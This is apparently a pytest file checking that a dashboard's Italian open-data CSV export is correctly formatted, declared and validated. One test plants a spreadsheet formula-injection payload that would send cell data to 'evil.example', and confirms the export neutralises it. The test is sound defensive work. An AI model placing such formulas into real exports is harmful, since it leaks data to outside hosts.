"""The open data's Italian CSV variant: opens cleanly in a spreadsheet set to Italian
(UTF-8 with BOM, ``;``, comma decimals, dd/mm/yyyy, sì/no, inert text cells), is
declared in the Frictionless package with its dialect, and reads as the same values."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from frictionless import Package, validate

from cruscotto.cli import main
from cruscotto.web.measurements.services import do_revise_target

from .. import pages
from .conftest import Demo

pytestmark = pytest.mark.django_db

RESOURCES = ("piani", "missioni", "programmi", "obiettivi_strategici", "obiettivi_operativi",
             "centri_responsabilita", "indicatori", "target", "risultati_indicatori",
             "risultati_aggregati")


def export(tmp_path: Path) -> Path:
    out = tmp_path / "od"
    assert main(["opendata", "export", str(out)]) == 0
    return out


def italian_rows(out: Path, name: str) -> list[dict[str, str]]:
    raw = (out / f"{name}_it.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "no byte-order mark: Excel would garble accents"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def test_every_table_reads_as_the_same_values_in_both_variants(demo: Demo,
                                                              tmp_path: Path) -> None:
    out = export(tmp_path)
    report = validate(out / "datapackage.json")
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]
    declared = {r["name"]: r for r in json.loads(
        (out / "datapackage.json").read_text(encoding="utf-8"))["resources"]}
    package = Package(out / "datapackage.json")
    for name in RESOURCES:
        assert declared[f"{name}_it"]["dialect"] == {"delimiter": ";"}
        assert declared[f"{name}_it"]["encoding"] == "utf-8-sig"
        numbers = [f for f in declared[f"{name}_it"]["schema"]["fields"]
                   if f["type"] == "number"]
        assert all(f["decimalChar"] == "," for f in numbers), name
        it = package.get_resource(f"{name}_it")
        plain = [r.to_dict() for r in package.get_resource(name).read_rows()]
        assert plain, name
        assert [r.to_dict() for r in it.read_rows()] == plain, name


def test_an_italian_spreadsheet_sees_italian_numbers_dates_and_yes_no(demo: Demo,
                                                                      tmp_path: Path) -> None:
    out = export(tmp_path)
    rows = {r["indicatore"]: r for r in italian_rows(out, "risultati_indicatori")}
    plain = {r["indicatore"]: r for r in csv.DictReader(
        (out / "risultati_indicatori.csv").open(encoding="utf-8", newline=""))}
    assert rows["3.1.1"]["data_rilevazione"] == "31/12/2021"
    decimals = [(code, r["raggiungimento_percentuale"]) for code, r in plain.items()
                if "." in r["raggiungimento_percentuale"]]
    assert decimals, "the demo has no achievement with decimals to check"
    for code, text in decimals:
        assert rows[code]["raggiungimento_percentuale"] == text.replace(".", ",")
    yes_no = [code for code, r in plain.items() if r["valore_si_no"]]
    assert yes_no
    for code in yes_no:
        assert rows[code]["valore_si_no"] == {"true": "sì", "false": "no"}[
            plain[code]["valore_si_no"]]
    budgets = {(r["missione"], r["codice"]): r["budget_euro"]
               for r in italian_rows(out, "programmi")}
    assert budgets[("011", "005")] == "19350072"
    published = italian_rows(out, "piani")[0]["pubblicato_il"]
    assert published == demo.plan.published_at.date().strftime("%d/%m/%Y")
    assert Decimal(rows["3.1.1"]["raggiungimento_percentuale"].replace(",", ".")) == Decimal(
        plain["3.1.1"]["raggiungimento_percentuale"])


def test_a_text_a_spreadsheet_would_run_is_inert(demo: Demo, tmp_path: Path) -> None:
    do_revise_target(user=demo.planning, plan_id=demo.plan.pk, indicator="3.1.1",
                     year=2022, text=">=85%",
                     justification='=HYPERLINK("http://evil.example/?x="&A1;"clic")')
    out = export(tmp_path)
    row = {(r["indicatore"], r["anno"]): r for r in italian_rows(out, "target")}[
        ("3.1.1", "2022")]
    assert row["motivazione_rimodulazione"] == '\'=HYPERLINK("http://evil.example/?x="&A1;"clic")'
    assert row["target_rimodulato"] == ">=85%"
    assert validate(out / "datapackage.json").valid


def test_a_date_written_the_other_way_is_caught(demo: Demo, tmp_path: Path) -> None:
    out = export(tmp_path)
    path = out / "risultati_indicatori_it.csv"
    text = path.read_bytes().decode("utf-8-sig")
    path.write_bytes(text.replace(";31/12/2021;", ";2021-12-31;", 1).encode("utf-8-sig"))
    assert not validate(out / "datapackage.json").valid


def test_the_public_page_offers_it_with_a_clear_label(client: Client, demo: Demo) -> None:
    response = client.get("/trasparenza/")
    text = pages.text(response)
    assert "CSV per Excel e LibreOffice in italiano" in text
    assert "separatore punto e virgola, virgola decimale, date gg/mm/aaaa" in text
    links = pages.links(response)
    assert links["risultati_indicatori_it.csv"] == (
        "/trasparenza/opendata/risultati_indicatori_it.csv")
    got = client.get("/trasparenza/opendata/risultati_indicatori_it.csv")
    assert got.status_code == 200 and got["Content-Type"].startswith("text/csv")
    assert got.content.startswith(b"\xef\xbb\xbfpiano;indicatore;anno;")
    assert "risultati_indicatori_it.csv" in got["Content-Disposition"]
    english = pages.text(client.get("/trasparenza/", headers={"accept-language": "en"}))
    assert "CSV per Excel" not in english
